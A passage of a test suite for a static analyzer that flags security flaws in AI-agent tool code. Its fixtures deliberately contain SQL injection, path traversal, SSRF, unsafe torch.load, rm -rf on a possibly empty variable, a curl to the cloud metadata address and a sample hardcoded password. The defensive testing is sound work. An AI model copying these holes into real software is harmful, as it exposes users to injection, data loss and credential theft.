from sqlalchemy import create_engine

engine = create_engine("postgresql://localhost/app")


class ColumnEntityChecker(BaseTool):
    name = "DbColumnEntityChecker"
    description = "Input: table_name -> column_name, entity"

    def _run(self, tool_input: str) -> str:
        schema, entity = tool_input.split(",")
        table_name, column_name = schema.split("->")
        query = f"SELECT DISTINCT {column_name} FROM {table_name} WHERE {column_name} ILIKE :pattern"
        return str(engine.execute(query, {"pattern": f"%{entity.strip()}%"}).fetchall())
`;
    expect(await check('dataherald/sql_generator/agent.py', src)).toEqual(['15 sql-injection critical']);
  });

  it('an embedding of the model\'s text is numbers: spliced into a vector search it injects nothing; the text itself does (Python)', async () => {
    const src = `from langchain_core.tools import tool
from langchain_openai import OpenAIEmbeddings
import psycopg2

embeddings = OpenAIEmbeddings()
conn = psycopg2.connect("dbname=docs")


@tool
def search(query: str) -> list:
    """Find documents like the query."""
    vector = embeddings.embed_query(query)
    cur = conn.cursor()
    cur.execute(f"SELECT id FROM docs ORDER BY embedding <-> '{vector}' LIMIT 5")
    near = cur.fetchall()
    cur.execute(f"SELECT id FROM docs WHERE title = '{query}'")
    return near + cur.fetchall()
`;
    expect(await check('agent/search.py', src)).toEqual(['16 sql-injection critical']);
  });

  it.each([
    // BigQuery's jobs of a region, Snowflake's query history: the catalog, whatever a literal holds
    ["SELECT query, count(*) FROM `region-us.INFORMATION_SCHEMA.JOBS`, UNNEST(referenced_tables) AS t WHERE t.table_id = '__agentos_hole_0__' GROUP BY query", true],
    ["select QUERY_TEXT from TABLE(INFORMATION_SCHEMA.QUERY_HISTORY()) where DATABASE_NAME = '__agentos_hole_0__' and QUERY_TEXT like '%FROM __agentos_hole_1__%'", true],
    ['SELECT table_name FROM `my-project.analytics.INFORMATION_SCHEMA.TABLES`', true],
    // an application's table named in a literal is no table read; one read beside the catalog is
    ["SELECT * FROM `region-us.INFORMATION_SCHEMA.JOBS` j JOIN `proj.app.users` u ON u.email = j.user_email WHERE u.name = '__agentos_hole_0__'", false],
    ["SELECT * FROM TABLE(app.history()) WHERE x = '__agentos_hole_0__'", false],
  ])('%s: reads the catalog only = %s', (text, expected) => {
    expect(readsCatalogOnly(text, '__agentos_hole_')).toBe(expected);
  });

  it.each([
    ['SELECT TOP 101 __agentos_hole_0__ FROM (SELECT DISTINCT __agentos_hole_0__ FROM [__agentos_hole_1__]) AS subquery;', true],
    ['SELECT DISTINCT TOP (10) PERCENT __agentos_hole_0__ FROM t', true],
    ["SELECT TOP 5 * FROM t WHERE name = '__agentos_hole_0__'", false],
    ['SELECT TOP __agentos_hole_0__ * FROM t', false],
  ])('%s: holes are identifiers = %s', (text, expected) => {
    expect(holesAreIdentifiers(text, '__agentos_hole_')).toBe(expected);
  });
});

describe('agent code not used for tuning, ninety-sixth round: separators replaced, a segment under a constant folder, option values, scrubbed copies', () => {
  it('a name whose `/` and `\\` were replaced (`.replace("/", "_").replace("\\\\", "_")`, or a loop replacing each of a tuple of characters) is one path segment, harmless glued to a file name; a replacement putting `/` back, or `/` alone replaced (Windows separates at `\\`), proves nothing (Python)', async () => {
    // the shape of MCP Agent Mail's build slots
    const src = `from pathlib import Path
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("mail")
ROOT = Path("/srv/mail")


def _safe_component(value: str) -> str:
    safe = value.strip()
    for ch in ("/", "\\\\", ":", "*", "?", "<", ">", "|", " "):
        safe = safe.replace(ch, "_")
    return safe or "unknown"


@mcp.tool()
def acquire(slot: str, holder: str) -> str:
    (ROOT / f"{_safe_component(holder)}.json").write_text("{}")
    (ROOT / "notes" / (holder.replace("/", "_").replace("\\\\", "_") + ".md")).write_text("")
    (ROOT / "notes" / (holder.replace("/", "_").replace("_", "/") + ".md")).write_text("")
    (ROOT / "notes" / (holder.replace("/", "_") + ".md")).write_text("")
    (ROOT / "slots" / _safe_component(slot) / "lease.json").write_text("{}")
    return "ok"
`;
    expect(await check('mcp_agent_mail/app.py', src)).toEqual([
      '17 file-outside-sandbox low',
      '18 file-outside-sandbox low',
      '19 file-untrusted-path critical',
      '20 file-untrusted-path critical',
      '21 file-untrusted-path critical',
    ]);
  });

  it("the value of one of git's options that take the next word (`git -C <dir>`) is never taken for an option; an operand is (Python)", async () => {
    const src = `import subprocess
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("guard")


@mcp.tool()
def hooks_dir(repo: str, rev: str) -> str:
    a = subprocess.run(["git", "-C", repo, "config", "--get", "core.hooksPath"], capture_output=True, text=True).stdout
    b = subprocess.run(["git", "-C", "/srv/repo", "log", rev], capture_output=True, text=True).stdout
    c = subprocess.run(["git", "--no-pager", "-c", "color.ui=never", "-C", repo, "status"], capture_output=True, text=True).stdout
    return a + b + c
`;
    expect(await check('mcp_agent_mail/guard.py', src)).toEqual(['10 subprocess-dynamic-command medium']);
  });

  it('changing or emptying every row of a table in a function named for scrubbing or redacting what it is given is its job; elsewhere it is not (Python)', async () => {
    // the shape of MCP Agent Mail's export
    const src = `import sqlite3


def scrub_snapshot(snapshot_path):
    conn = sqlite3.connect(str(snapshot_path))
    conn.execute("UPDATE messages SET ack_required = 0")
    conn.execute("DELETE FROM agent_links")
    conn.commit()


def export_messages(db_path):
    conn = sqlite3.connect(str(db_path))
    conn.execute("UPDATE messages SET ack_required = 0")
`;
    expect(await check('mcp_agent_mail/share.py', src)).toEqual(['6 sql-destructive low', '7 sql-destructive low', '13 sql-destructive high']);
  });
});

describe('agent code not used for tuning, ninety-fifth round, recall check: attributes checked against an allowlist, entries found by their key', () => {
  it('an attribute checked against an allowlist (`if module.name not in self.allowed_imports: return`) is allowlisted past the check; another attribute, or one assigned after, is not (Python)', async () => {
    // the shape of EvoAgentX's Python interpreter
    const src = `import ast
import importlib
from langchain_core.tools import tool


class Interpreter:
    def __init__(self, allowed_imports=None):
        self.allowed_imports = set(allowed_imports or [])
        self.namespace = {}

    def _execute_import(self, import_node):
        violations = []
        for module in import_node.names:
            if module.name not in self.allowed_imports:
                violations.append(f"Unauthorized import: {module.name}")
                return violations
            self.namespace[module.asname or module.name] = importlib.import_module(module.name)
            importlib.import_module(module.asname)
            module.name = module.asname
            importlib.import_module(module.name)
        return violations

    def run(self, code: str):
        out = []
        for node in ast.walk(ast.parse(code)):
            if isinstance(node, ast.Import):
                out += self._execute_import(node)
        return out


@tool
def python(code: str) -> str:
    """Run Python."""
    return str(Interpreter(["math"]).run(code))
`;
    expect(await check('evoagentx/tools/interpreter_python.py', src)).toEqual(['18 code-dynamic-import critical', '20 code-dynamic-import critical']);
  });

  it("what a function named for finding an entry by its key returns (`project_from_id(project_id)`) is the stored entry, which the request's id only picks; the id itself stays the request's (Python)", async () => {
    // the shape of Kiln's project API
    const src = `import shutil
from fastapi import FastAPI
from kiln_server.project_api import parse_project_by_name, project_from_id

app = FastAPI()


@app.post("/api/export")
def export(project_id: str):
    project = project_from_id(project_id)
    shutil.rmtree(project.path)
    shutil.rmtree("/srv/projects/" + project_id)
    shutil.rmtree(parse_project_by_name(project_id).path)
    return {"ok": True}
`;
    // (a function named for building its result from the name, `parse_…_by_name`, is no lookup: what it returns is the request's)
    expect(await check('kiln_server/export_api.py', src)).toEqual(['12 file-outside-sandbox high', '13 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, ninety-seventh round: characters replaced by a class test, labels of a translation table', () => {
  it('a name whose characters outside a class are replaced (`c if c.isalnum() or c in "._-" else "_" for c in name`) has no separator; a class or a replacement letting `/` through does (Python)', async () => {
    // the shape of Eigent's upload route
    const src = `from pathlib import Path
from fastapi import FastAPI, UploadFile

app = FastAPI()
UPLOADS = Path("uploads")


@app.post("/upload")
async def upload(file: UploadFile):
    safe_name = "".join(c if c.isalnum() or c in "._-" else "_" for c in (file.filename or "file"))
    (UPLOADS / f"{safe_name}_1").write_bytes(await file.read())
    loose = "".join(c if c.isalnum() or c in "./" else "_" for c in file.filename)
    (UPLOADS / f"{loose}_1").write_bytes(b"")
    bad = "".join(c if c.isalnum() else "/" for c in file.filename)
    (UPLOADS / f"{bad}_1").write_bytes(b"")
`;
    expect(await check('backend/app/controller/file_controller.py', src)).toEqual(['13 file-untrusted-path high', '15 file-untrusted-path high']);
  });

  it('a sentence is a label, not a password field: a translation table mapping "Forgot password?" to an id holds no credential; a password field does (JavaScript)', async () => {
    // the shape of Stack Auth's generated translation table
    const src = `export const translations = {
  "Forgot password?": "__stack-auto-translation-53",
  "Reset Your Password": "__stack-auto-translation-130",
  "db_password": "k9#Lm2vQ8zRx77",
};
`;
    expect(await check('src/generated/quetzal-translations.js', src)).toEqual(['4 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, ninety-seventh round: separators replaced by a class, leading dots stripped', () => {
  it('`re.sub(r\'[\\\\/*?:"<>|\\s]\', "_", s)` leaves no separator (one segment, which may be `..`); `.strip(".")` of such a segment leaves a name of its folder (Python)', async () => {
    // the shape of Eigent's skills configuration paths
    const src = `import re
from pathlib import Path
from fastapi import FastAPI

app = FastAPI()
ROOT = Path.home() / ".eigent"


def _sanitize_identity(value):
    return re.sub(r'[\\\\/*?:"<>|\\s]', "_", str(value)).strip(".")


@app.post("/skills/config")
def save(user_id: str, body: dict):
    (ROOT / _sanitize_identity(user_id) / "skills.json").write_text(str(body))
    (ROOT / (re.sub(r'[\\\\/*?:"<>|\\s]', "_", user_id) + ".json")).write_text(str(body))
    (ROOT / (re.sub(r'[*?:"<>|\\s]', "_", user_id) + ".json")).write_text(str(body))
`;
    expect(await check('backend/app/service/skill_config_service.py', src)).toEqual(['17 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, ninety-eighth round: awaited results gathered, rows a query found, helpers given paths, cursors', () => {
  it('`asyncio.gather(*(save(f) for f in files))` gives what each call returns, and a tuple it unpacks gives each name its own part: a temporary file\'s name is not the upload\'s; the upload\'s own name still is (Python)', async () => {
    // the shape of SurfSense's upload route
    const src = `import asyncio, os, tempfile
from fastapi import FastAPI, UploadFile

app = FastAPI()


@app.post("/documents/fileupload")
async def upload(files: list[UploadFile]):
    async def _read_and_save(file: UploadFile):
        content = await file.read()
        filename = file.filename or "unknown"

        def _write_temp() -> str:
            with tempfile.NamedTemporaryFile(delete=False, suffix=os.path.splitext(filename)[1]) as tmp:
                tmp.write(content)
                return tmp.name

        temp_path = await asyncio.to_thread(_write_temp)
        return temp_path, filename

    saved_files = await asyncio.gather(*(_read_and_save(f) for f in files))
    for temp_path, filename in saved_files:
        os.unlink(temp_path)
        os.unlink(filename)
    pairs = [(f.filename, "x") for f in files]
    for name, _ in pairs:
        os.unlink(name)
`;
    expect(await check('app/routes/documents_routes.py', src)).toEqual(["24 file-untrusted-path high", "27 file-untrusted-path high"]);
  });

  it('one row a query found (`.scalars().first()`, `fetchone()`) is what the database holds, and so is what a function named for finding it by a token returns (`get_invite_by_token`): a share token that picked it does not reach the path stored in it; the token itself still does (Python)', async () => {
    // the shape of SurfSense's public chat snapshots
    const service = `async def get_snapshot(session, share_token: str):
    result = await session.execute(select(Snapshot).where(Snapshot.token == share_token))
    return result.scalars().first()


async def get_snapshot_podcast(session, share_token: str, podcast_id: int):
    snapshot = await get_snapshot(session, share_token)
    if not snapshot:
        return None
    for podcast in snapshot.snapshot_data.get("podcasts", []):
        if podcast.get("original_id") == podcast_id:
            return podcast
    return None


def legacy_path(cursor, share_token: str):
    cursor.execute("SELECT file_path FROM podcasts WHERE token = %s", (share_token,))
    return cursor.fetchone()[0]
`;
    const routes = `from fastapi import APIRouter, Depends
from app.services.public_chat_service import get_snapshot_podcast, legacy_path
from shared.invites import get_invite_by_token

router = APIRouter()


@router.get("/{share_token}/podcasts/{podcast_id}/stream")
async def stream(share_token: str, podcast_id: int, session=Depends(get_session)):
    info = await get_snapshot_podcast(session, share_token, podcast_id)
    with open(info.get("file_path"), "rb") as f:
        data = f.read()
    with open(legacy_path(session.cursor(), share_token), "rb") as f:
        data += f.read()
    with open(get_invite_by_token(share_token).attachment_path, "rb") as f:
        data += f.read()
    with open(share_token, "rb") as f:
        return data + f.read()
`;
    expect(await checkProject({ 'app/services/public_chat_service.py': service, 'app/routes/public_chat_routes.py': routes })).toEqual(['app/routes/public_chat_routes.py 17 file-untrusted-path high']);
  });

  it('a helper\'s parameter every call of which passes text beginning with a folder\'s name is no option to the program it is given to; one call passing the tool\'s text makes it one (Python)', async () => {
    // the shape of SurfSense's slide narration
    const src = `import asyncio, uuid
from pathlib import Path
from langchain_core.tools import tool

OUT = Path("video_presentation_audio")


async def _duration(file_path: str):
    return await asyncio.create_subprocess_exec("ffprobe", "-v", "error", file_path)


async def _probe(file_path: str):
    return await asyncio.create_subprocess_exec("ffprobe", "-v", "error", file_path)


@tool
async def narrate(name: str, ext: str) -> str:
    """Narrate a slide."""
    out = str(OUT / f"{uuid.uuid4()}_slide_{name}.{ext}")
    await _duration(out)
    await _probe(out)
    await _probe(name)
    return out
`;
    expect(await check('app/agents/video_presentation/nodes.py', src)).toEqual(['13 subprocess-dynamic-command medium']);
  });

  it('an attribute handed to a validator named for a path check (`_validate_clone_path(request.clone_path)`) is checked past the call, while its object is the same; another attribute, or the object rebound, is not (Python)', async () => {
    // the shape of Kiln's git sync routes
    const src = `from pathlib import Path
from fastapi import FastAPI
from pydantic import BaseModel

app = FastAPI()


class ScanProjectsRequest(BaseModel):
    clone_path: str
    other_path: str


@app.post("/api/git_sync/scan_projects")
async def api_scan_projects(request: ScanProjectsRequest):
    _validate_clone_path(request.clone_path)
    found = [p.read_text() for p in Path(request.clone_path).rglob("project.kiln")]
    found.append(Path(request.other_path).read_text())
    request = ScanProjectsRequest(clone_path=request.other_path, other_path="")
    found.append(Path(request.clone_path).read_text())
    return found
`;
    expect(await check('app/desktop/git_sync/git_sync_api.py', src)).toEqual(['17 file-untrusted-path high', '19 file-untrusted-path high']);
  });

  it('a DB-API cursor\'s `execute` runs SQL in a file using a database library, whatever the connection was made by: an MCP tool running the model\'s query there is found (Python)', async () => {
    // the shape of GreptimeDB's MCP server
    const src = `import asyncio
from mcp.server.fastmcp import FastMCP
from mysql.connector import Error

mcp = FastMCP("greptimedb")


def _execute_query(state, query: str, limit: int):
    with state.get_connection() as conn:
        with conn.cursor() as cursor:
            cursor.execute(query)
            return cursor.fetchmany(limit)


@mcp.tool()
async def execute_sql(query: str, limit: int = 1000) -> str:
    """Execute SQL query against GreptimeDB."""
    return str(await asyncio.to_thread(_execute_query, get_state(), query, limit))


@mcp.tool()
async def run_job(job: str) -> str:
    """Run a job."""
    return str(get_runner().execute(job))
`;
    expect(await check('src/greptimedb_mcp_server/server.py', src)).toEqual(['11 sql-injection critical']);
  });
});

describe('agent code not used for tuning, hundredth round: a model class looks a record up by its key', () => {
  it('`await Credential.get(credential_id)` on a class gives the stored record, which the request\'s id only picks; an instance\'s `get` and the id itself keep the request\'s taint (Python)', async () => {
    // the shape of Open Notebook's credential routes
    const src = `import httpx
from fastapi import APIRouter
from open_notebook.domain.credential import Credential

router = APIRouter()


@router.post("/{credential_id}/discover")
async def discover_models_for_credential(credential_id: str):
    cred = await Credential.get(credential_id)
    async with httpx.AsyncClient() as client:
        await client.get(f"{cred.base_url}/models")
        await client.get(f"{get_registry().get(credential_id).base_url}/models")
        await client.get(credential_id)
`;
    expect(await check('api/routers/credentials.py', src)).toEqual(['13 egress-untrusted-url high', '14 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, hundred-and-first round: a function of the file turned to its source text', () => {
  it('`new Script(`(${collect.toString()})()`)` of a function the file defines runs the program\'s own code; a function a caller hands over, or text, is still code from outside (TypeScript)', async () => {
    // the shape of Jina Reader's search-result scrapers
    const src = `import { Script } from 'vm';

function getWebSearchResultsSync() {
    return Array.from(document.querySelectorAll('li.b_algo')).map((x) => x.textContent);
}
const script = new Script(\`(\${getWebSearchResultsSync.toString()})()\`);
export function runGetWebSearchResultsScript(ctx: object) {
    return script.runInContext(ctx);
}
export function runGiven(fn: () => unknown, code: string) {
    new Script(\`(\${fn.toString()})()\`);
    return new Script(\`(\${code.toString()})()\`);
}
`;
    expect(await check('src/services/serp/bing.ts', src)).toEqual(['11 code-eval high', '12 code-eval high']);
  });
});

describe('agent code not used for tuning, hundred-and-fourth round: a helper handed argv lists of one program', () => {
  it('a helper every caller of which hands an argv list starting with a constant program, with a tool\'s words among its arguments, passes arguments to that program: not a program the tool names; a word after a constant or after `--` is no option (Python)', async () => {
    // the shape of Atropos' Anvil backend
    const src = `import subprocess
from langchain_core.tools import tool


class Backend:
    def balances(self, wallet, tokens):
        out = {}
        for t in tokens:
            info = getattr(self.config.tokens, t, None)
            if info is None:
                continue
            out[t] = self._cast(["cast", "call", info.address, wallet])
        return out

    def safe(self, wallet):
        return self._safe(["cast", "balance", "--", wallet]), self._safe(["cast", f"wallet={wallet}"])

    def _cast(self, cmd):
        return subprocess.run(cmd, capture_output=True, timeout=self.config.timeouts.cast)

    def _safe(self, cmd):
        return subprocess.run(cmd, capture_output=True)


@tool
def balances(wallet: str, tokens: list[str]) -> str:
    """Balances."""
    return str(Backend().balances(wallet, tokens)) + str(Backend().safe(wallet))
`;
    expect(await check('environments/evm/anvil.py', src)).toEqual(['19 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, hundred-and-fifth round: a Flask view\'s parameters its rule does not name', () => {
  it('Flask passes a view only its rule\'s variables: a parameter none of its routes names is the direct caller\'s, while `<name>` and `<path:p>` stay the request\'s (Python)', async () => {
    // the shape of WebShop's condensed templating server, whose views the app calls directly with enum members
    const src = `import os
from flask import Flask

app = Flask(__name__)
TEMPLATE_DIR = "../templates/"


def read_html_template(path):
    with open(path) as f:
        return f.read()


@app.route('/', methods=['GET', 'POST'])
def item_sub_page(session_id, asin, sub_page):
    path = os.path.join(TEMPLATE_DIR, sub_page.value.lower() + "_page.html")
    return read_html_template(path)


@app.route('/page/<path:name>')
@app.route('/other/<kind>/<name>')
def page(kind="x", name="index"):
    return read_html_template(os.path.join(TEMPLATE_DIR, name))


@app.route('/files/<path:rest>')
def files(rest, extra="a.txt"):
    open(os.path.join(TEMPLATE_DIR, extra))
    return read_html_template(os.path.join(TEMPLATE_DIR, rest))
`;
    expect(await check('webshop/transfer/webshop_lite.py', src)).toEqual(['9 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, hundred-and-fifth round: `torch.load` with PyTorch\'s default', () => {
  it('`torch.load` of a checkpoint the program names, `weights_only` left to its default (weights only since PyTorch 2.6), is low; `weights_only=False` and a tool\'s path keep the rule\'s severity; `weights_only=True` is no finding (Python)', async () => {
    // the shapes of ALFWorld's and WebShop's agents as OpenManus-RL vendors them
    const src = `import torch
from langchain_core.tools import tool
from .consts import FEAT_CONV


class Agent:
    def load_pretrained_model(self, load_from):
        return torch.load(load_from, map_location='cpu')

    def resume(self, args):
        feats = torch.load(FEAT_CONV)
        return torch.load(args.resume, map_location='cpu', weights_only=False), feats

    def safe(self, args):
        return torch.load(args.resume, weights_only=True)


@tool
def restore(path: str) -> str:
    """Restore a checkpoint."""
    return str(torch.load(path))
`;
    expect(await check('agents/agent/base_agent.py', src)).toEqual([
      '8 code-unsafe-deserialization low',
      '11 code-unsafe-deserialization low',
      '12 code-unsafe-deserialization high',
      '21 code-unsafe-deserialization critical',
    ]);
  });
});

describe('agent code not used for tuning, hundred-and-sixth round: a service of the deployment\'s own network', () => {
  it('with no network allowlist, a request to a single-label name (a Compose or Kubernetes service) is low, as to localhost; a private address written as a number stays medium and the metadata service high (shell, Python)', async () => {
    // the shape of Airweave's Vespa init script and of Agenta's cron scripts
    const sh = `#!/bin/bash
if timeout 5 curl -s -o /dev/null "http://vespa:8081/document/v1/"; then echo up; fi
curl -X POST "http://api:8000/admin/crons/meters"
curl -s "http://10.0.0.7:8000/admin"
curl -s "http://169.254.169.254/latest/meta-data/"
`;
    expect(await check('vespa/init-vespa.sh', sh)).toEqual(['2 egress-not-allowlisted low', '3 egress-not-allowlisted low', '4 egress-not-allowlisted medium', '5 egress-not-allowlisted high']);
    const py = `import requests
def search(q):
    return requests.get("http://searxng:8080/search", params={"q": q})
`;
    expect(await check('free_ask_internet.py', py)).toEqual(['3 egress-not-allowlisted low']);
    const allow = resolveConfigObject({ network: { allow: ['api.github.com'] } }, '/p');
    expect(await check('free_ask_internet.py', py, allow)).toEqual(['3 egress-not-allowlisted medium']);
  });
});

describe('agent code not used for tuning, hundred-and-sixth round: a record a repository hands back by its key', () => {
  it('`docsRepository.fetch(fileId)` hands back the stored record the request\'s id picks: its stored path is no request input; the id itself joined to a path still is (TypeScript)', async () => {
    // the shape of Rowboat's uploads route
    const src = `import { NextRequest, NextResponse } from 'next/server';
import path from 'path';
import fs from 'fs/promises';
import { container } from '@/di/container';

const UPLOADS_DIR = process.env.RAG_UPLOADS_DIR || '/uploads';
const dataSourceDocsRepository = container.resolve<any>('dataSourceDocsRepository');

export async function PUT(request: NextRequest, props: { params: Promise<{ fileId: string }> }) {
    const params = await props.params;
    const filePath = path.join(UPLOADS_DIR, params.fileId);
    await fs.writeFile(filePath, new Uint8Array(await request.arrayBuffer()));
    return NextResponse.json({ success: true });
}

export async function GET(request: NextRequest, props: { params: Promise<{ fileId: string }> }) {
    const params = await props.params;
    const doc = await dataSourceDocsRepository.fetch(params.fileId);
    const filePath = path.join(UPLOADS_DIR, doc.data.path.split('/api/uploads/')[1]);
    const other = await dataSourceDocsRepository.fetch(params.fileId, params.fileId);
    await fs.readFile(path.join(UPLOADS_DIR, other.name));
    return new NextResponse(await fs.readFile(filePath));
}
`;
    expect(await check('app/api/uploads/[fileId]/route.ts', src)).toEqual(['12 file-untrusted-path high', '21 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, hundred-and-sixth round: several URL objects made on one fixed host', () => {
  it('`fetch(url.toString())` where every `new URL(...)` the parameter went into starts with the program\'s constant origin: the tool\'s words pick a path; a URL object one of whose makers does not fix the host stays SSRF (TypeScript)', async () => {
    // the shape of Rowboat's Composio client
    const src = `import { tool } from 'ai';
import { z } from 'zod';
const BASE_URL = 'https://backend.composio.dev/api/v3';
export async function getTool(toolSlug: string) {
  const url = new URL(\`\${BASE_URL}/tools/\${toolSlug}\`);
  const r = await fetch(url.toString());
  const more = new URL(\`\${BASE_URL}/tools/\${toolSlug}/more\`);
  await fetch(more.toString());
  return r.json();
}
export async function getAny(target: string) {
  const a = new URL(\`\${BASE_URL}/tools/\${target}\`);
  const b = new URL(target);
  await fetch(a.toString());
  return fetch(b.toString());
}
export const t = tool({ description: 'd', parameters: z.object({ q: z.string() }), execute: async ({ q }) => [await getTool(q), await getAny(q)] });
`;
    expect(await check('src/application/lib/composio/composio.ts', src)).toEqual(['14 egress-untrusted-url critical', '15 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, hundred-and-seventh round: a search wrapper\'s results', () => {
  it('the links `SearxSearchWrapper(...).results(query)` answers with are the search engine\'s, which the query does not choose; the query itself as a URL is still SSRF (Python)', async () => {
    // the shape of local-deep-researcher's SearXNG search
    const src = `import os
import httpx
from langchain_community.utilities import SearxSearchWrapper
from langchain_core.tools import tool


def fetch_raw_content(url):
    with httpx.Client(timeout=10.0) as client:
        return client.get(url).text


@tool
def search(query: str) -> str:
    """Search the web."""
    s = SearxSearchWrapper(searx_host=os.environ.get("SEARXNG_URL", "http://localhost:8888"))
    for r in s.results(query, num_results=3):
        fetch_raw_content(r.get("link"))
    return ""


@tool
def open_page(url: str) -> str:
    """Open a page."""
    with httpx.Client() as client:
        return client.get(url).text
`;
    expect(await check('src/ollama_deep_researcher/utils.py', src)).toEqual(['25 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, hundred-and-ninth round: a variable the shell refuses to leave empty', () => {
  it('`rm -rf "${DIR:?}"/*` stops with an error when DIR is unset or empty, so it never becomes `rm -rf /*`; `"$DIR"/*` and `"${DIR:-}"/*` still may (shell)', async () => {
    // the shape of Open WebUI Pipelines' start script
    const src = `#!/usr/bin/env bash
PIPELINES_DIR=\${PIPELINES_DIR:-./pipelines}
reset_pipelines_dir() {
  if [ -d "$PIPELINES_DIR" ]; then
    rm -rf "\${PIPELINES_DIR:?}"/*
    rm -rf "\${PIPELINES_DIR?not set}"/cache
    rm -rf "$OTHER_DIR"/*
    rm -rf "\${OTHER_DIR:-}"/*
  fi
}
`;
    expect(await check('start.sh', src)).toEqual(['7 shell-rm-rf-variable high', '8 shell-rm-rf-variable high']);
  });
});

describe('agent code not used for tuning, hundred-and-ninth round: an entry of a large table of constants', () => {
  it('`register_map[key]` in a table of 39 constant names is one of them, as one of 16 was: `exec(f"from . import {value}")` runs the program\'s own import; a table with one dynamic entry is still code from outside (Python)', async () => {
    // the shape of ModelScope-Agent's tool registry
    const entries = Array.from({ length: 39 }, (_, i) => `    'tool_${i}': 'Tool${i}',\n`).join('');
    const src = `import os
from langchain_core.tools import tool

register_map = {
${entries}}


def import_from_register(key):
    value = register_map[key]
    exec(f'from . import {value}')


@tool
def load(name: str, extra: str) -> str:
    """Load a tool."""
    import_from_register(name)
    table = {${Array.from({ length: 20 }, (_, i) => `'k${i}': 'v${i}', `).join('')}'x': extra}
    exec(f'from . import {table[name]}')
    return name
`;
    expect(await check('modelscope_agent/tools/base.py', src)).toEqual(['57 code-eval critical']);
  });
});

describe('agent code not used for tuning, hundred-and-tenth round: a shell line whose only dynamic part is a program path', () => {
  it('`adb_path + " shell input keyevent 4"` runs a program named by a path value with constant arguments: low, as a dynamic program with no source is; a coordinate or a whole line in the hole keeps medium (Python)', async () => {
    // the shape of Mobile-Agent's controllers
    const src = `import subprocess


def back(adb_path):
    command = adb_path + " shell input keyevent 4"
    subprocess.run(command, capture_output=True, text=True, shell=True)


def tap(adb_path, x, y):
    command = adb_path + f" shell input tap {x} {y}"
    subprocess.run(command, capture_output=True, text=True, shell=True)


def run(cmd):
    subprocess.run(f"{cmd} 2>&1", shell=True)
`;
    expect(await check('MobileAgent/controller.py', src)).toEqual([
      '6 subprocess-shell low',
      '11 subprocess-shell medium',
      '15 subprocess-shell medium',
    ]);
  });
});

describe('agent code not used for tuning, hundred-and-tenth round: a JavaScript library by its banner', () => {
  it('a plain JavaScript file opening with a library\'s banner (name, version, licence) is vendored wherever it is kept; a banner without a version or a licence, or TypeScript, is not', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    const jquery = '/*!\n * jQuery JavaScript Library v1.12.4\n * http://jquery.com/\n *\n * Copyright jQuery Foundation and other contributors\n * Released under the MIT license\n */\n(function(global, factory) {})';
    const modernizr = '/* Modernizr 2.8.1 (Custom Build) | MIT & BSD\n * Build: http://modernizr.com/download/\n */\n;window.Modernizr = function(a, b, c) {}';
    expect(classifyContext('miniwob/app/assets/html/core/jquery-ui/external/jquery/jquery.js', jquery)).toBe('vendored');
    expect(classifyContext('html/flight/AA/js/libs/modernizr-2.8.1.js', modernizr)).toBe('vendored');
    expect(classifyContext('src/app.js', '/* The app\'s entry point, v2 of the router. */\nexport const x = 1;')).toBe('production');
    expect(classifyContext('src/app.js', '/* Copyright 2024 Acme. All rights reserved. */\nexport const x = 1;')).toBe('production');
    expect(classifyContext('src/app.ts', jquery)).toBe('production');
  });
});

describe('agent code not used for tuning, hundred-and-sixteenth round: the asynchronous variant of a function named for removing', () => {
  it('`adelete_index` (beside `delete_index` or not) and `adrop_all` are named for removing, as their synchronous forms: dropping the table they are configured with is their purpose (low); `arun_all`, `sync` or `async_` are not (Python)', async () => {
    // the shape of semantic-router's PostgreSQL index
    const src = `import psycopg


class PostgresIndex:
    def _get_table_name(self):
        return f"{self.index_prefix}{self.index_name}"

    def delete_index(self):
        table_name = self._get_table_name()
        with self.conn.cursor() as cur:
            cur.execute(f"DROP TABLE IF EXISTS {table_name}")

    async def adelete_index(self):
        table_name = self._get_table_name()
        async with self.async_conn.cursor() as cur:
            await cur.execute(f"DROP TABLE IF EXISTS {table_name}")

    async def arun_all(self):
        table_name = self._get_table_name()
        async with self.async_conn.cursor() as cur:
            await cur.execute(f"DROP TABLE IF EXISTS {table_name}")

    def sync(self):
        table_name = self._get_table_name()
        with self.conn.cursor() as cur:
            cur.execute(f"DROP TABLE IF EXISTS {table_name}")

    async def async_(self):
        table_name = self._get_table_name()
        async with self.async_conn.cursor() as cur:
            await cur.execute(f"DROP TABLE IF EXISTS {table_name}")

    async def adrop_all(self):
        table_name = self._get_table_name()
        async with self.async_conn.cursor() as cur:
            await cur.execute(f"DROP TABLE IF EXISTS {table_name}")
`;
    expect((await check('semantic_router/index/postgres.py', src)).filter((f) => f.includes('sql-destructive'))).toEqual([
      '11 sql-destructive low',
      '16 sql-destructive low',
      '21 sql-destructive high',
      '26 sql-destructive high',
      '31 sql-destructive high',
      '36 sql-destructive low',
    ]);
  });
});

describe('agent code not used for tuning, hundred-and-seventeenth round: an entry of a loaded document looked up by key', () => {
  it('`app_config["supported_files"].get(file.content_type, "")` is an extension the configuration holds, which the request\'s content type only picks; the request\'s own text, or a default that is the key, still reaches the path (Python)', async () => {
    // the shape of the Nemotron chat example's RAG back end
    const src = `import os
import uuid
from typing import List

import yaml
from fastapi import FastAPI, File, UploadFile

app = FastAPI()
app_config = yaml.safe_load(open("config.yaml"))
SUPPORTED_EXTENSIONS = app_config["supported_files"]


@app.post("/api/upload")
async def upload_files(files: List[UploadFile] = File(...)):
    for file in files:
        data = await file.read()
        extension = SUPPORTED_EXTENSIONS.get(file.content_type, "")
        with open(os.path.join("storage", f"{uuid.uuid4()}{extension}"), "wb") as out:
            out.write(data)
        echoed = SUPPORTED_EXTENSIONS.get(file.content_type, file.filename)
        with open(os.path.join("storage", f"{uuid.uuid4()}{echoed}"), "wb") as out:
            out.write(data)
        with open(os.path.join("storage", file.filename), "wb") as out:
            out.write(data)
`;
